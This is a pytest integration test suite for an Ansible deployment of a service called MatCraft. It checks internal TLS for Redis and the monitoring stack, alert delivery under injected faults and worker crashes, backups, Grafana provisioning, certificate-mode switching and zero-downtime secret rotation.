    assert "Verify return code: 0 (ok)" in chain, chain[-2000:]
    assert "MatCraft internal CA (site-test)" in chain


def test_redis_answers_only_over_tls(host):
    """inventories/small turns Redis TLS-only on: the plain port is refused from the API host, the
    TLS port presents a certificate of the internal CA for the private address, the API's and the
    workers' broker URLs are rediss://, and the real redis_exporter reads Redis over TLS."""
    api = peer("site-api1")
    address = address_of(peer("site-redis1"))
    assert not probe_tcp(api, address, 6379), "the plain Redis port answers"
    served = api.run("openssl s_client -connect %s:6380 -verify_ip %s -verify_return_error "
                     "-CAfile /etc/matcraft/pki/ca.crt </dev/null 2>&1", address, address).stdout
    assert "Verify return code: 0 (ok)" in served, served[-2000:]
    for name in ("site-api1",) + WORKERS:
        url = peer(name).run("systemd-creds decrypt --name=redis-url /etc/matcraft/credentials/redis-url.cred -").stdout
        assert url.startswith("rediss://") and ":6380/" in url, "%s: the Redis URL is not rediss:// on 6380" % name
    up = wait_for("redis_up 1", lambda: [s for s in query(host, 'redis_up{job="redis"}') if s["value"][1] == "1"],
                  60, 5)
    assert up


def test_monitoring_is_served_over_tls(host):
    """inventories/small turns matcraft_monitoring_tls on: Prometheus, Alertmanager and the node,
    postgres, redis and blackbox exporters present certificates of the internal CA for their
    private addresses and answer plain HTTP with an error; Prometheus scrapes them and pushes
    alerts over HTTPS. mtail, the nginx exporter and the worker sidecar stay plain HTTP.
    Alertmanager asks for the monitoring login."""
    servers = [("site-monitor1", port) for port in (9090, 9093, 9115)] + [("site-db1", 9187), ("site-redis1", 9121)]
    servers += [(name, 9100) for name in ("site-api1", "site-db1", "site-redis1", "site-monitor1") + WORKERS]
    for name, port in servers:
        address = address_of(peer(name))
        served = host.run("openssl s_client -connect %s:%s -verify_ip %s -verify_return_error "
                          "-CAfile /etc/matcraft/pki/ca.crt </dev/null 2>&1", address, str(port), address).stdout
        assert "Verify return code: 0 (ok)" in served, (name, port, served[-1500:])
        plain = host.run("curl -sS --max-time 10 http://%s:%s/metrics", address, str(port))
        assert "Client sent an HTTP request to an HTTPS server" in plain.stdout, (name, port, plain.stdout[:300])
    active = prometheus(host, "/api/v1/targets", state="active")["data"]["activeTargets"]
    schemes = {}
    for target in active:
        schemes.setdefault(target["labels"]["job"], set()).add(target["scrapeUrl"].split(":", 1)[0])
    for job in ("prometheus", "node", "postgres", "redis", "blackbox", "alertmanager", "worker_health", "public_health"):
        assert schemes.get(job) == {"https"}, (job, schemes)
    for job in ("nginx", "mtail", "worker"):
        assert schemes.get(job) == {"http"}, (job, schemes)
    alertmanagers = prometheus(host, "/api/v1/alertmanagers")["data"]["activeAlertmanagers"]
    assert alertmanagers and all(a["url"].startswith("https://") for a in alertmanagers), alertmanagers
    # Alertmanager asks for the monitoring login, inside TLS; Prometheus sends it with the
    # alerts (the alert tests below) and its scrapes (its target is up: the next test).
    url = "https://%s:9093/api/v2/status" % address_of(host)
    curl = ["curl", "-sS", "--max-time", "10", "--cacert", "/etc/matcraft/pki/ca.crt", "-o", "/dev/null",
            "-w", "%{http_code}"]
    for login, expected in (([], "401"), (["-u", "matcraft:" + SECRETS["matcraft_monitoring_web_password"]], "200")):
        args = curl + login + [url]
        answer = host.run(" ".join(["%s"] * len(args)), *args)
        assert answer.stdout == expected, (login[:1], answer.stdout, answer.stderr)
    # amtool as docs/monitoring.md shows it: the login from Prometheus's password file.
    host.run("install -m 0600 /dev/null /root/amtool-http.yml && printf %s > /root/amtool-http.yml",
             "basic_auth:\n  username: matcraft\n  password_file: /run/credentials/prometheus.service/prometheus-web-password\n"
             "tls_config:\n  ca_file: /etc/matcraft/pki/ca.crt\n")
    amtool = host.run("amtool --alertmanager.url=https://%s:9093 --http.config.file=/root/amtool-http.yml "
                      "-o json alert query", address_of(host))
    assert amtool.rc == 0 and amtool.stdout.startswith("["), (amtool.stdout[:300], amtool.stderr)


def test_prometheus_and_alertmanager_settings_and_label_contract(host):
    """Prometheus and Alertmanager as the prometheus and alertmanager roles set them: logins kept
    as bcrypt hashes in root:prometheus 0640 files (never the password), the UIs and APIs on the
    private address only, Alertmanager without a cluster (gossip) port, its receiver the test
    webhook, and every target labelled with its host's role (the rules' label contract)."""
    password = SECRETS["matcraft_monitoring_web_password"]
    for path in ("/etc/prometheus/web.yml", "/etc/prometheus/alertmanager-web.yml",
                 "/etc/prometheus/alertmanager.yml"):
        config = host.file(path)
        assert (config.user, config.group, config.mode) == ("root", "prometheus", 0o640), path
        assert password not in config.content_string, path
    assert "$2b$" in host.file("/etc/prometheus/web.yml").content_string
    url = "https://%s:9090/api/v1/status/buildinfo" % address_of(host)
    anonymous = host.run("curl -sS --max-time 10 --cacert /etc/matcraft/pki/ca.crt -o /dev/null -w '%%{http_code}' %s",
                         url)
    assert anonymous.stdout == "401", anonymous.stdout + anonymous.stderr
    listening = [line.split()[3] for proto in ("-Htln", "-Huln")
                 for line in host.run("ss %s", proto).stdout.splitlines() if line.strip()]
    for port in ("9090", "9093"):
        assert [a for a in listening if a.endswith(":" + port)] == ["%s:%s" % (address_of(host), port)], listening
    assert not [a for a in listening if a.endswith(":9094")], listening
    amconfig = json.loads(host.run(
        "curl -sS --max-time 10 --cacert /etc/matcraft/pki/ca.crt -u %s https://%s:9093/api/v2/status",
        "matcraft:" + password, address_of(host)).stdout)
    receivers = yaml.safe_load(amconfig["config"]["original"])["receivers"]
    assert [r["webhook_configs"][0]["url"] for r in receivers if r.get("webhook_configs")] == [
        "http://127.0.0.1:9999/alerts"], receivers
    roles = {"site-api1": "api", "site-worker1": "worker", "site-worker2": "worker", "site-db1": "database",
             "site-redis1": "redis", "site-monitor1": "monitoring", DOMAIN: "edge"}
    active = prometheus(host, "/api/v1/targets", state="active")["data"]["activeTargets"]
    wrong = [(t["labels"].get("job"), t["labels"].get("matcraft_host"), t["labels"].get("matcraft_role"))
             for t in active if roles.get(t["labels"].get("matcraft_host")) != t["labels"].get("matcraft_role")]
    assert active and not wrong, wrong
    expiry = query(host, 'probe_ssl_earliest_cert_expiry{job="public_health"} - time()')
    assert expiry and float(expiry[0]["value"][1]) > 14 * 86400, expiry


def test_every_target_is_up_and_the_alerts_are_loaded(host):
    def targets_up():
        active = prometheus(host, "/api/v1/targets", state="active")["data"]["activeTargets"]
        return active if active and all(t["health"] == "up" for t in active) else None

    try:
        active = wait_for("every Prometheus target up", targets_up, 180, 3)
    except BaseException:
        active = prometheus(host, "/api/v1/targets", state="active")["data"]["activeTargets"]
        raise AssertionError("down: %r" % [(t["labels"].get("job"), t["scrapeUrl"], t["lastError"])
                                           for t in active if t["health"] != "up"]) from None
    jobs = {}
    for target in active:
        jobs[target["labels"]["job"]] = jobs.get(target["labels"]["job"], 0) + 1
    assert jobs["node"] == 6 and jobs["worker_health"] == 2 and jobs["public_health"] == 1, jobs
    # Every host's internal certificate is probed (job internal_tls, for
    # MatcraftTlsCertificateExpiringSoon): the probe verifies it and reads its end.
    assert jobs["internal_tls"] == 6, jobs
    assert sorted(float(r["value"][1]) for r in query(host, 'probe_success{job="internal_tls"}')) == [1.0] * 6
    expiry = {r["metric"]["matcraft_host"]: float(r["value"][1])
              for r in query(host, 'probe_ssl_earliest_cert_expiry{job="internal_tls"}')}
    assert len(expiry) == 6, expiry
    for name, seconds in expiry.items():
        end = peer(name).run("date -d \"$(openssl x509 -enddate -noout -in /etc/matcraft/pki/host.crt | cut -d= -f2)\" +%s")
        assert end.rc == 0 and float(end.stdout) == seconds, (name, end.stdout, seconds)
    for job in ("postgres", "redis", "nginx", "mtail", "worker", "alertmanager", "prometheus"):
        assert jobs.get(job), (job, jobs)
    rules = prometheus(host, "/api/v1/rules")["data"]["groups"]
    names = {rule["name"] for group in rules for rule in group["rules"]}
    for name in ("MatcraftApiErrorRateHigh", "MatcraftApiLatencyHigh", "MatcraftWorkerQueueDepthHigh",
                 "MatcraftDatabaseConnectionsHigh", "MatcraftDatabaseDiskUsageHigh", "MatcraftRedisMemoryHigh",
                 "MatcraftDatabaseWalArchivingFailing", "MatcraftBackupFullTooOld",
                 "MatcraftDatabaseReplicaNotStreaming"):
        assert name in names, name
    assert not [r for g in rules for r in g["rules"] if r.get("health") == "err"]
    # The real backup timer's metric and the real archiver feed the backup and WAL rules.
    assert query(host, 'matcraft_backup_last_success_timestamp_seconds{type="full"}')
    assert query(host, "pg_stat_archiver_archived_count > 0")
    # The exporter's replication query on the primary (medium runs it on a real standby).
    replication = {r["metric"]["__name__"]: r["value"][1]
                   for r in query(host, '{__name__=~"pg_replication_(lag|is_replica|streaming)", matcraft_host="site-db1"}')}
    assert replication == {"pg_replication_lag": "0", "pg_replication_is_replica": "0",
                           "pg_replication_streaming": "1"}, replication


def test_a_backup_exists_and_the_timer_is_set():
    db = peer("site-db1")
    info = db.run("sudo -u postgres pgbackrest --stanza=matcraft --output=json info")
    assert info.rc == 0, info.stderr
    backups = json.loads(info.stdout)[0]["backup"]
    assert [b for b in backups if b["type"] == "full"], backups
    timer = db.service("matcraft-pgbackrest-full.timer")
    assert timer.is_enabled and timer.is_running


def test_api_error_rate_alert_from_the_real_api_reaches_the_webhook(host, webhook):
    """The API answers 500 (the contract app's fault injection) to a bounded load through the
    real edge: MatcraftApiErrorRateHigh, computed from the edge's JSON log, reaches the webhook."""
    fault = public(host, "POST", "/v1/admin/fault", {"status": 500, "seconds": 150})
    assert fault[0] == 200, fault
    unit = "site-test-load"
    host.run("systemctl stop %s; systemctl reset-failed %s", unit, unit)
    load = host.run("systemd-run --unit=%s --property=RuntimeMaxSec=150 /bin/bash -c "
                    "'for i in $(seq 1 750); do curl -s --cacert /etc/matcraft/pki/ca.crt -o /dev/null --max-time 2 https://%s/v1/campaigns; "
                    "sleep 0.2; done'", unit, DOMAIN)
    assert load.rc == 0, load.stderr
    try:
        alerts = wait_for("MatcraftApiErrorRateHigh (critical) at the webhook",
                          lambda: notified(host, "MatcraftApiErrorRateHigh", "critical"), 180, 3)
        assert "runbook_url" in alerts[0]["annotations"], alerts[0]
    finally:
        host.run("systemctl stop %s", unit)
        public(host, "POST", "/v1/admin/fault", {"status": 500, "seconds": 0})


def test_queue_depth_alert_when_no_worker_consumes(host, webhook):
    """Workers stopped, a dozen jobs posted through the edge: the real redis_exporter counts the
    Celery queue and MatcraftWorkerQueueDepthHigh (critical) reaches the webhook; the jobs run
    once the workers are back."""
    for name in WORKERS:
        stop = peer(name).run("systemctl stop matcraft-worker@default")
        assert stop.rc == 0, stop.stderr
    ids = []
    try:
        for _ in range(12):
            status, created = public(host, "POST", "/v1/jobs", {"seconds": 0.1})
            assert status == 202, created
            ids.append(created["id"])
        alerts = wait_for("MatcraftWorkerQueueDepthHigh (critical) at the webhook",
                          lambda: [a for a in notified(host, "MatcraftWorkerQueueDepthHigh", "critical")
                                   if a["labels"].get("key") == "default"], 150, 3)
        assert alerts
    finally:
        for name in WORKERS:
            peer(name).run("systemctl start matcraft-worker@default")
    for job_id in ids:
        wait_for("job %d done" % job_id,
                 lambda j=job_id: public(host, "GET", "/v1/jobs/%d" % j)[1].get("state") == "done", 120, 2)


def test_a_killed_worker_s_job_is_alerted_reported_and_runs_again_after_the_bound(host, webhook):
    """The worker-crash bound chosen in the inventory (zz_molecule.yml: worker_visibility_timeout 90 s,
    tasks' hard limit 20 s) reaches the running workers. A worker killed with SIGKILL (the OOM
    killer's way) mid-job leaves the job unacknowledged: past the time limit,
    MatcraftWorkerJobUnacknowledged (the real redis_exporter's script) reaches the webhook and verify
    names the job; once the bound has passed, the job runs again and completes."""
    status, created = public(host, "POST", "/v1/jobs", {"seconds": 12})
    assert status == 202, created
    delivered = time.monotonic()
    job_path = "/v1/jobs/%d" % created["id"]
    running = wait_for("the job running", lambda: (lambda j: j if j.get("state") == "running" else None)(
        public(host, "GET", job_path)[1]), 60, 0.5)
    worker = peer(running["worker"])
    unit = "matcraft-worker@%s" % running["worker_node"].split("@")[0]
    pid = worker.run("systemctl show --property MainPID --value %s", unit).stdout.strip()
    environ = worker.run("tr '\\0' '\\n' < /proc/%s/environ", pid).stdout.splitlines()
    assert "CELERY_VISIBILITY_TIMEOUT=90" in environ, [line for line in environ if line.startswith("CELERY_")]
    assert worker.run("systemctl kill --signal=SIGKILL %s", unit).rc == 0
    alerts = wait_for("MatcraftWorkerJobUnacknowledged at the webhook",
                      lambda: notified(host, "MatcraftWorkerJobUnacknowledged"), 120, 3)
    assert alerts[0]["labels"]["matcraft_host"] == "site-redis1", alerts[0]
    assert time.monotonic() - delivered < 90, "the alert came only after the job could have run again"
    run = ansible_playbook("matcraft.deploy.verify", "-e", "verify_public_address=" + edge_address(),
                           "-e", '{"verify_skip": ["job"]}')
    if time.monotonic() - delivered < 88:  # the report was made before the bound passed
        assert run.returncode != 0, run.stdout[-4000:]
        assert "FAIL  site-monitor1  unacknowledged jobs" in run.stdout, run.stdout[-4000:]
        assert "has been unacknowledged for" in run.stdout, run.stdout[-4000:]
    done = wait_for("the job to run again and complete",
                    lambda: (lambda j: j if j.get("state") == "done" else None)(public(host, "GET", job_path)[1]),
                    150, 2)
    assert done["attempts"] >= 2, done
    assert time.monotonic() - delivered >= 90 + 12 - 1, "run again before the 90 s bound: %r" % done
    wait_for("%s running again" % unit, lambda: worker.run("systemctl is-active %s", unit).stdout.strip() == "active",
             60)


@pytest.fixture
def grafana_scratch(host):
    """The scratch directory of the Grafana provisioning test, removed afterwards: its datasource
    file holds the monitoring password in clear text, which no file on the host may."""
    yield "/var/tmp/site-grafana"
    host.run("rm -rf /var/tmp/site-grafana")


def test_grafana_datasource_and_every_panel_query_work_against_the_real_prometheus(host, tmp_path, grafana_scratch):
    """The grafana role's provisioning, rendered to a scratch directory on the monitoring host
    (tasks_from: provisioning.yml, as where the package is missing): the datasource, used with
    its own URL, basic auth and CA (as Grafana would use it), answers from this deployment's
    Prometheus over verified HTTPS, every panel points at it, and every query of every panel of
    the MatCraft dashboard, sent through it, returns data."""
    play = tmp_path / "render-grafana.yml"
    play.write_text(json.dumps([{
        "name": "Render the Grafana provisioning to a scratch directory", "hosts": "matcraft_monitoring",
        "become": True, "gather_facts": True,
        "tasks": [{"name": "Render", "ansible.builtin.include_role": {
            "name": "matcraft.deploy.grafana", "tasks_from": "provisioning.yml"},
            "vars": {"grafana_provisioning_dir": "/var/tmp/site-grafana/provisioning",
                     "grafana_dashboards_dir": "/var/tmp/site-grafana/dashboards",
                     "grafana_provisioning_group": "root"}}]}]))
    run = ansible_playbook(str(play))
    assert run.returncode == 0, run.stdout[-6000:]
    for secret in SECRETS.values():
        assert secret not in run.stdout
    rendered = host.file("/var/tmp/site-grafana/provisioning/datasources/matcraft.yml")
    assert (rendered.user, rendered.mode) == ("root", 0o640), "the datasource file holds a password"
    datasource = yaml.safe_load(rendered.content_string)["datasources"][0]
    assert datasource["type"] == "prometheus" and datasource["url"] == "https://%s:9090" % address_of(host)
    assert datasource["basicAuth"] is True and datasource["jsonData"]["tlsAuthWithCACert"] is True
    assert datasource["secureJsonData"]["tlsCACert"] == host.file("/etc/matcraft/pki/ca.crt").content_string
    ca_file = "/var/tmp/site-grafana/datasource-ca.pem"
    assert host.run("printf '%%s' %s > %s", datasource["secureJsonData"]["tlsCACert"], ca_file).rc == 0
    login = "%s:%s" % (datasource["basicAuthUser"], datasource["secureJsonData"]["basicAuthPassword"])

    def through_datasource(expr, ca=ca_file):
        """The query as Grafana sends it (httpMethod POST, basic auth, the datasource's CA)."""
        answer = host.run("curl -sS --max-time 15 --cacert %s -u %s --data-urlencode %s %s", ca, login,
                          "query=" + expr, datasource["url"] + "/api/v1/query")
        if answer.rc != 0:
            return answer.rc, answer.stderr
        body = json.loads(answer.stdout)
        assert body["status"] == "success", (expr, body)
        return 0, body["data"]["result"]

    status, result = through_datasource("vector(1)")
    assert status == 0 and result[0]["value"][1] == "1", result
    dashboard = json.loads(host.file("/var/tmp/site-grafana/dashboards/matcraft-overview.json").content_string)
    grafana_variables = {"$__rate_interval": "1m", "$__interval": "15s", "$__range": "5m"}
    queries = []
    for panel in dashboard["panels"]:
        assert panel["datasource"]["uid"] == datasource["uid"], panel["title"]
        for target in panel.get("targets", []):
            assert target["datasource"]["uid"] == datasource["uid"], panel["title"]
            queries.append((panel["title"], target["expr"]))
    assert len(queries) >= 12, queries
    empty = []
    for title, expr in queries:
        for name, value in grafana_variables.items():
            expr = expr.replace(name, value)
        assert not re.search(r"\$\w+", expr), "unexpanded Grafana variable in %s" % expr
        try:
            wait_for("data for " + title, lambda e=expr: (lambda r: r[0] == 0 and r[1])(through_datasource(e)), 60, 5)
        except BaseException:
            empty.append((title, expr, through_datasource(expr)))
    assert not empty, "panels without data: %r" % empty


GRAFANA_PACKAGE = os.environ.get("MATCRAFT_TEST_GRAFANA_DEB", "") or (
    "Grafana's APT repository" if os.environ.get("MATCRAFT_TEST_GRAFANA_REPOSITORY") == "1" else "")


def test_grafana_package_part(host):
    """Grafana installed and running, from the package the testbed points at (zz_molecule.yml):
    its login, its provisioned datasource answering through Grafana and its dashboard."""
    if not GRAFANA_PACKAGE:
        pytest.skip("NOT RUN: the Grafana package part of matcraft.deploy.grafana (install, grafana-server, "
                    "admin password): neither MATCRAFT_TEST_GRAFANA_DEB (a Grafana .deb) nor "
                    "MATCRAFT_TEST_GRAFANA_REPOSITORY=1 is set, as Grafana's APT repository is not reachable "
                    "from this machine. Its provisioning (datasource with URL, login and CA, every dashboard "
                    "query) is checked against the real Prometheus by the test above.")
    assert_unit_running(host, "grafana-server")
    base = "http://%s:3000" % address_of(host)
    wait_for("Grafana health", lambda: host.run("curl -sf --max-time 5 %s/api/health", base).rc == 0, 60, 2)
    for path in ("/api/user", "/api/datasources/uid/matcraft-prometheus", "/api/dashboards/uid/matcraft-overview",
                 "/api/datasources/uid/matcraft-prometheus/health"):
        result = host.run("curl -sS --max-time 10 -o /dev/null -w '%%{http_code}' -u %s %s",
                          "admin:" + SECRETS["matcraft_grafana_admin_password"], base + path)
        assert result.stdout == "200", "%s: %s %s" % (path, result.stdout, result.stderr)


# --------------------------------------------------------------------------- certificate modes


def test_provided_certificate_mode_then_back_to_internal(tmp_path):
    """The edge playbook switches the public certificate to one the user provides (signed by a
    CA of their own, given as PEM through an extra-vars file), then back to the internal CA."""
    ca_key, ca_crt = tmp_path / "user-ca.key", tmp_path / "user-ca.crt"
    key, csr, crt = tmp_path / "edge.key", tmp_path / "edge.csr", tmp_path / "edge.crt"
    ext = tmp_path / "ext.cnf"
    ext.write_text("subjectAltName=DNS:%s\nextendedKeyUsage=serverAuth\n" % DOMAIN)
    for cmd in (
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", str(ca_key), "-out", str(ca_crt), "-days", "30", "-subj", "/CN=User test CA"],
        ["openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", str(key), "-out", str(csr), "-subj", "/CN=" + DOMAIN],
        ["openssl", "x509", "-req", "-in", str(csr), "-CA", str(ca_crt), "-CAkey", str(ca_key),
         "-CAcreateserial", "-out", str(crt), "-days", "20", "-extfile", str(ext)],
    ):
        made = subprocess.run(cmd, capture_output=True, text=True)
        assert made.returncode == 0, made.stderr
    extra = tmp_path / "provided.yml"
    extra.write_text(json.dumps({"matcraft_tls_mode": "provided", "nginx_tls_certificate": crt.read_text(),
                                 "nginx_tls_private_key": key.read_text()}))
    extra.chmod(0o600)
    monitor = peer("site-monitor1")
    monitor.run("mkdir -p /var/tmp/site-test")
    put = monitor.run("printf '%%s' %s > /var/tmp/site-test/user-ca.crt", ca_crt.read_text())
    assert put.rc == 0
    try:
        run = ansible_playbook("matcraft.deploy.edge", "-e", "@" + str(extra))
        assert run.returncode == 0, run.stdout[-6000:]
        assert key.read_text().strip().splitlines()[1] not in run.stdout, "the private key was printed"
        served = monitor.run("curl -sS --max-time 10 --cacert /var/tmp/site-test/user-ca.crt -o /dev/null "
                             "-w '%%{http_code}' https://%s/health", DOMAIN)
        assert served.stdout == "200", served.stdout + served.stderr
    finally:
        back = ansible_playbook("matcraft.deploy.edge")
    assert back.returncode == 0, back.stdout[-6000:]
    status, _ = public(monitor, "GET", "/health")
    assert status == 200
    # The provided key is gone once another mode serves.
    assert not peer("site-api1").run("grep -rlF -- %s /etc/nginx /etc/matcraft 2>/dev/null",
                                     key.read_text().strip().splitlines()[1]).stdout.strip()


# --------------------------------------------------------------------------- rotation (last: it changes every secret)


def _db_login(password):
    """The login role the application uses with this password (matcraft.deploy.db_login_name)."""
    return "matcraft_" + hashlib.sha256(("matcraft:" + password).encode()).hexdigest()[:10]


def _in_container(name, argv, stdin):
    """Run argv in a scenario container with the secret on stdin, never on a command line."""
    return subprocess.run(["docker", "exec", "-i", name] + argv, input=stdin, capture_output=True, text=True, timeout=60)


def _database_login_works(user, password):
    url = "postgresql://%s:%s@%s:5432/matcraft?sslmode=verify-full&sslrootcert=/etc/matcraft/pki/ca.crt" % (
        user, quote(password, safe=""), address_of(peer("site-db1")))
    probe = _in_container("site-api1", ["/opt/matcraft/current/venv/bin/python", "-c",
                                        "import sys, psycopg; psycopg.connect(sys.stdin.read(), connect_timeout=5).close()"],
                          url)
    return probe.returncode == 0


def _redis_login_works(password):
    probe = _in_container("site-redis1", ["redis-cli", "-s", "/run/redis/redis-server.sock", "--no-auth-warning"],
                          "AUTH matcraft %s\nPING\n" % password)
    return probe.returncode == 0 and "PONG" in probe.stdout


# On the API host, as root, with the edge's client certificate: connections the API's workers have
# accepted (each handshake done), then SIGTERM to every worker, as a reload, a restart or
# max_requests sends it, then the requests on those connections.
_STOPPING_WORKER_PROBE = """
import os, signal, socket, ssl, sys, time
address, port, main = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile="/etc/matcraft/pki/ca.crt")
context.load_cert_chain("/etc/matcraft/edge-client/client.crt", "/etc/matcraft/edge-client/client.key")
with open("/proc/%s/task/%s/children" % (main, main)) as handle:
    workers = [int(pid) for pid in handle.read().split()]
connections = [context.wrap_socket(socket.create_connection((address, port), timeout=10), server_hostname=address)
               for _ in range(2 * len(workers))]
for pid in workers:
    os.kill(pid, signal.SIGTERM)
time.sleep(0.4)
print(*workers)
for connection in connections:
    try:
        connection.sendall(b"GET /health HTTP/1.1\\r\\nHost: " + address.encode() + b"\\r\\nConnection: close\\r\\n\\r\\n")
        data = b""
        while True:
            chunk = connection.recv(65536)
            if not chunk:
                break
            data += chunk
        print(data.split(b"\\r\\n", 1)[0].decode(errors="replace") or "closed without an answer")
    except OSError as error:
        print(repr(error))
"""


def test_a_stopping_api_worker_answers_the_connections_it_accepted():
    """A worker that stops (a graceful reload, a restart, max_requests) first stops accepting,
    then answers what it has accepted (api_shutdown_drain): a connection accepted an instant
    before, its request not sent yet, gets its answer, not a reset (uvicorn alone closes it, and
    nginx cannot send a POST again). Deterministic: the requests go 0.4 s after the SIGTERM, when
    uvicorn's shutdown has begun; without the drain every one is closed unanswered."""
    api = peer("site-api1")
    main = api.run("systemctl show -P MainPID matcraft-api").stdout.strip()
    probe = _in_container("site-api1", ["python3", "-c", _STOPPING_WORKER_PROBE, address_of(api), "8000", main], "")
    assert probe.returncode == 0, probe.stderr
    lines = probe.stdout.splitlines()
    stopped, answers = lines[0].split(), lines[1:]
    assert stopped and len(answers) == 2 * len(stopped), probe.stdout
    assert all(answer.startswith("HTTP/1.1 200") for answer in answers), answers
    # The stopped workers are gone, the master (the same) has started as many new ones, and they
    # answer.
    def replaced():
        children = api.run("cat /proc/%s/task/%s/children", main, main).stdout.split()
        return len(children) == len(stopped) and not set(children) & set(stopped)
    wait_for("new API workers in place of the stopped ones", replaced, 60)
    assert api.run("systemctl show -P MainPID matcraft-api").stdout.strip() == main
    url = "https://%s:8000/health" % address_of(api)
    wait_for("the new API workers", lambda: api.run(
        "curl -sS --max-time 5 --cacert /etc/matcraft/pki/ca.crt -o /dev/null -w '%{http_code}' " + EDGE_CLIENT + " "
        + url).stdout == "200", 60)


def test_rotating_every_secret_keeps_every_request_working(tmp_path):
    """The documented rotation, under a stream of requests through the edge: matcraft.deploy.secrets
    -e secrets_force=true on the vault file, then site with --diff. No request fails (the new
    database login role and Redis password are accepted before the old ones are retired, and the
    API reloads its environment with its socket open); no secret, old or new, raw or URL-encoded, is
    printed; the queued jobs complete; the old credentials are refused afterwards; the CA stays; and
    verify passes with the new secrets. It takes no `host` fixture: pytest runs the tests that
    take it first, and this one must run after every other test of the scenario."""
    pass_file, vault, plain = tmp_path / "vault-pass", tmp_path / "vault.yml", tmp_path / "plain.yml"
    pass_file.write_text(secrets.token_hex(24))
    pass_file.chmod(0o600)
    plain.write_text(yaml.safe_dump(SECRETS))
    made = subprocess.run(["ansible-vault", "encrypt", "--vault-password-file", str(pass_file), "--output", str(vault),
                           str(plain)], capture_output=True, text=True)
    plain.unlink()
    assert made.returncode == 0, made.stderr
    rotate = ansible_playbook("matcraft.deploy.secrets", "-e", "secrets_file=%s" % vault,
                              "-e", "secrets_vault_password_file=%s" % pass_file, "-e", "secrets_force=true")
    assert rotate.returncode == 0, rotate.stdout[-4000:]
    shown = subprocess.run(["ansible-vault", "view", "--vault-password-file", str(pass_file), str(vault)],
                           capture_output=True, text=True)
    new = yaml.safe_load(shown.stdout)
    assert new["matcraft_pki_ca_passphrase_previous"] == SECRETS["matcraft_pki_ca_passphrase"]
    assert all(new[name] != value for name, value in SECRETS.items()), "a secret kept its value"

    monitor = peer("site-monitor1")
    ca_before = monitor.run("openssl x509 -noout -fingerprint -sha256 -in /etc/matcraft/pki/ca.crt").stdout
    started = time.time()
    with Stream(monitor, "site-rotation", edge_address(), DOMAIN, ["/health", "POST:/v1/jobs", "/v1/campaigns"],
                interval=0.25) as stream:
        site = ansible_playbook("matcraft.deploy.site", "--diff", "-e", "@%s" % vault,
                                "--vault-password-file", str(pass_file))
    summary = stream.summary()
    seconds = round(time.time() - started)
    results = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(
        os.path.abspath(__file__))))), ".cache", "results")
    os.makedirs(results, exist_ok=True)
    # The run's output with each task's start time (profile_tasks), to match a failed
    # request's time with the task that ran then. The test's throwaway secrets only.
    with open(os.path.join(results, "site-rotation-run.log"), "w") as handle:
        handle.write(site.stdout + site.stderr)
    assert site.returncode == 0, site.stdout[-8000:]
    printed = site.stdout + site.stderr
    for value in list(SECRETS.values()) + [v for v in new.values() if isinstance(v, str)]:
        assert value not in printed and quote(value, safe="") not in printed, "a secret was printed by site --diff"

    figures = {"requests": summary["sent"], "failed": summary["failed"], "stream_seconds": summary["seconds"],
               "site_seconds": seconds, "by_path": summary["by_path"], "failures": summary["failures"][:10]}
    with open(os.path.join(results, "site-rotation-window.json"), "w") as handle:
        json.dump(figures, handle, indent=1)
    assert summary["sent"] >= 4 * 60, figures
    assert summary["failed"] == 0, "requests failed during the rotation: %s" % json.dumps(figures)

    # Every job posted during the rotation completes.
    for location in summary["created"]:
        done = wait_for("job %s done" % location,
                        lambda: (lambda r: r[1] if r[0] == 200 and r[1]["state"] in ("done", "failed") else None)(
                            public(monitor, "GET", location)), 180, 2)
        assert done["state"] == "done", done

    # The old credentials are retired, the new ones work; the CA is the same.
    db = peer("site-db1").run("runuser -u postgres -- psql -d matcraft -Atc %s",
                              "SELECT string_agg(r.rolname, ',' ORDER BY r.rolname) FROM pg_auth_members m "
                              "JOIN pg_roles r ON r.oid = m.member JOIN pg_roles g ON g.oid = m.roleid "
                              "WHERE g.rolname = 'matcraft_runtime'")
    assert db.stdout.strip() == _db_login(new["matcraft_db_password"]), db.stdout + db.stderr
    owner_members = peer("site-db1").run("runuser -u postgres -- psql -d matcraft -Atc %s",
                                         "SELECT count(*) FROM pg_auth_members m JOIN pg_roles g ON g.oid = m.roleid "
                                         "WHERE g.rolname = 'matcraft'")
    assert owner_members.stdout.strip() == "0", owner_members.stdout + owner_members.stderr
    assert _database_login_works(_db_login(new["matcraft_db_password"]), new["matcraft_db_password"])
    assert not _database_login_works(_db_login(SECRETS["matcraft_db_password"]), SECRETS["matcraft_db_password"])
    # The owner has no password at all (it logs in with its certificate only).
    assert not _database_login_works("matcraft", SECRETS["matcraft_db_password"])
    assert not _database_login_works("matcraft", new["matcraft_db_password"])
    assert _redis_login_works(new["matcraft_redis_password"])
    assert not _redis_login_works(SECRETS["matcraft_redis_password"])
    assert monitor.run("openssl x509 -noout -fingerprint -sha256 -in /etc/matcraft/pki/ca.crt").stdout == ca_before

    check = ansible_playbook("matcraft.deploy.verify", "-e", "@%s" % vault, "--vault-password-file", str(pass_file),
                             "-e", "verify_public_address=" + edge_address())
    assert check.returncode == 0, "verify failed after the rotation:\n%s" % check.stdout[-8000:]
    assert "10 of 10 checks passed" in check.stdout
